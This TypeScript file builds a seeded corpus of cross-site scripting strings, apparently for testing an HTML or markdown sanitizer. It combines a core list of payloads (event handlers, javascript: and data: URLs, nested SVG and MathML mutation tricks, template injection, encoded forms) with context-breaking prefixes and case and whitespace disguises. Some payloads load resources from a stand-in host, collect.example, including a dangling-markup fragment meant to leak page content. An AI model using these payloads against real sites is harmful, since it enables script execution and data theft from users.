import { seeded } from '../../scripts/demo/random.ts'

const call = 'canary()'

/** Strings that run a script, fetch something or leave an element if they are not escaped. */
const cores: readonly string[] = [
  `<script>${call}</script>`,
  `<script src=//collect.example/a.js></script>`,
  `<img src=x onerror=${call}>`,
  `<img src="//collect.example/a.png" alt="a">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>a</details>`,
  `<input autofocus onfocus=${call}>`,
  `<video src=x onerror=${call}></video>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">a</a>`,
  `<a href="java&Tab;script:${call}">a</a>`,
  `<a href="&#106;avascript:${call}">a</a>`,
  `<a href=" \u0001javascript:${call}">a</a>`,
  `<a href="data:text/html,<script>${call}</script>">a</a>`,
  `[a](javascript:${call})`,
  `[a](java&#x09;script:${call})`,
  `![a](x" onerror="${call})`,
  `<javascript:${call}>`,
  `<div style="background:url(//collect.example/a)">a</div>`,
  `<style>@import "//collect.example/a.css";</style>`,
  `<link rel=stylesheet href=//collect.example/a.css>`,
  `<meta http-equiv=refresh content="0;url=//collect.example">`,
  `<base href=//collect.example/>`,
  `<x-canary data-canary=1>a</x-canary>`,
  `<p data-canary onmouseover=${call}>a</p>`,
  `<img src='//collect.example/?a=`,
  `<!--><img src=x onerror=${call}>-->`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `';${call};//`,
  `\\";${call};//`,
  `&lt;img src=x onerror=${call}&gt;`,
  `%3Cimg src=x onerror=${call}%3E`,
  `＜img src=x onerror=${call}＞`,
]

/** Prefixes that break out of an HTML context. */
const waysOut: readonly string[] = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '`',
  '</p></div>',
  '\u202e',
]

const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (text) => text.replace(/<(\w+) /g, '<$1/'),
  (text) => text.replace(/<(\w+) /g, '<$1\n'),
]

/** `count` distinct strings, reproducible by seed, with each core at least once if possible. */
export function scriptCorpus(count: number, seed: string): string[] {
  const random = seeded(seed)
  const all = waysOut.flatMap((out) =>
    disguises.flatMap((disguise) => cores.map((core) => out + disguise(core))),
  )
  const first = random.some(cores, Math.min(count, cores.length))
  const more = random.some(
    [...new Set(all)].filter((text) => !first.includes(text)),
    count - first.length,
  )
  return [...first, ...more]
}

/** Packs all strings into texts of at most `letters` characters. */
export function packed(strings: readonly string[], letters: number): string[] {
  const texts: string[] = []
  for (const text of strings) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + text.length < letters) texts[texts.length - 1] = `${last} ${text}`
    else texts.push(text.slice(0, letters))
  }
  return texts
}
